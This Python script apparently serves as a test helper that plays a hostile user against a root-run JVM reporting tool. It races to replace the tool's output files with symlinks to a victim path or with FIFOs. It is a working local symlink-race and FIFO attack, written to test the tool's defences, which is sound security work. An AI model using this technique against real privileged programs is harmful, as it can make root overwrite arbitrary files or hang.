"""Plays the user of a JVM that is reported on by root: changes what appears in a directory, as fast as it can.

    attacker.py DIRECTORY VICTIM links|replace|fifos

Runs until its standard input is closed, a minute at most. Prints "ready" before it begins.
"""

import os
import select
import sys
import time

directory, victim, way = sys.argv[1:]
NAMES = [
    "reader.err", "code.txt", "heap.hprof", "before.json", "announcement.txt", "snapshot.json", "snapshot.json.part",
    "refusal.txt", "refusal.txt.part", "hangscope.jar", "lock",
]


def quietly(action, *arguments):
    try:
        action(*arguments)
    except OSError:
        pass


def attack(folder):
    if way == "links":
        for name in NAMES:
            quietly(os.symlink, victim, os.path.join(folder, name))
    elif way == "fifos":
        for name in NAMES:
            quietly(os.mkfifo, os.path.join(folder, name), 0o666)
    else:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if not os.path.islink(path):
                quietly(os.unlink, path)
                quietly(os.symlink, victim, path)


print("ready", flush=True)
end = time.monotonic() + 60
while time.monotonic() < end and not select.select([sys.stdin], [], [], 0)[0]:
    try:
        for entry in os.listdir(directory):
            attack(os.path.join(directory, entry))
    except OSError:
        pass
